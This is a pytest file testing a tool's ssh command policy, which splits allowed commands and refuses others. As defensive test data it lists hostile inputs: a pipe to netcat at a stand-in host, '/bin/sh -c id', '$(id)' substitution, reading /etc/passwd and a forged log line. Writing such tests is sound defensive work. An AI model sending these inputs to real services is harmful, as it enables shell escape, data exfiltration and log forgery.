"""What `ssh HOST CMD ARGS...` may run: the command policy alone, without a server."""

from __future__ import annotations

import pytest

from poboard.cli import MODULE_OF
from poboard.serve.policy import CommandRefused, command_argv
from poboard.serve.session import printable

COMMANDS = set(MODULE_OF)


@pytest.mark.parametrize(
    ("line", "argv"),
    [
        ("list --json", ["list", "--json"]),
        ("edit 12 --title 'New title'", ["edit", "12", "--title", "New title"]),
        ('add "Launch: \\"Templates\\" gallery"', ["add", 'Launch: "Templates" gallery']),
        ("add 'A & B; then C | D'", ["add", "A & B; then C | D"]),
        ("--json move 3 review", ["--json", "move", "3", "review"]),
        ("--help", ["--help"]),
        ("member add ana --key 'ssh-ed25519 AAAA ana@laptop'", None),
    ],
)
def test_poboard_commands_are_split_as_a_posix_shell_would(
    line: str, argv: list[str] | None
) -> None:
    found = command_argv(line, COMMANDS)
    assert found == (argv if argv is not None else found)
    assert found[0] in COMMANDS | {"--json", "--help"}


@pytest.mark.parametrize(
    ("line", "says"),
    [
        ("", "no command"),
        ("--user ana list", "--user is not taken over ssh"),
        ("list --user=ana", "--user is not taken over ssh"),
        ("add x --db /tmp/other.db", "--db is not taken over ssh"),
        ("--db=/tmp/other.db list", "--db is not taken over ssh"),
        ("bash", "'bash' is not a poboard command"),
        ("/bin/sh -c id", "'/bin/sh' is not a poboard command"),
        ("list | nc evil 1", "'|': there is no shell here"),
        ("list > /tmp/x", "'>': there is no shell here"),
        ("add $(id)", "'$(id)': there is no shell here"),
        ("--verbose list", "'--verbose' is not a poboard command"),
        ("serve --ssh", "serve runs on the server itself"),
        ("init --shared", "init is for the board's owner"),
        ("backup /tmp/copy.db", "backup writes files on the server"),
        ("import /etc/passwd", "import reads files on the server"),
        ("report --output /tmp/r.md", "-o/--output writes files on the server"),
        ("export -o/tmp/x.json", "-o/--output writes files on the server"),
        ("member add ana --key /home/po/.ssh/id_ed25519.pub", "over ssh, --key takes the key text"),
        ("member add ana --key=ana.pub", "over ssh, --key takes the key text"),
        ("edit 1 --title 'unclosed", "cannot read that command line"),
    ],
)
def test_anything_else_is_refused_in_one_line(line: str, says: str) -> None:
    with pytest.raises(CommandRefused) as refused:
        command_argv(line, COMMANDS)
    message = str(refused.value)
    assert message.startswith(says) and "\n" not in message


def test_a_command_line_is_logged_on_one_line() -> None:
    assert printable("add 'x\n2026-01-01 00:00:00 po from 10.0.0.1: board'") == (
        "add 'x\\n2026-01-01 00:00:00 po from 10.0.0.1: board'"
    )
    assert printable("list " + "x" * 100).endswith("x…")
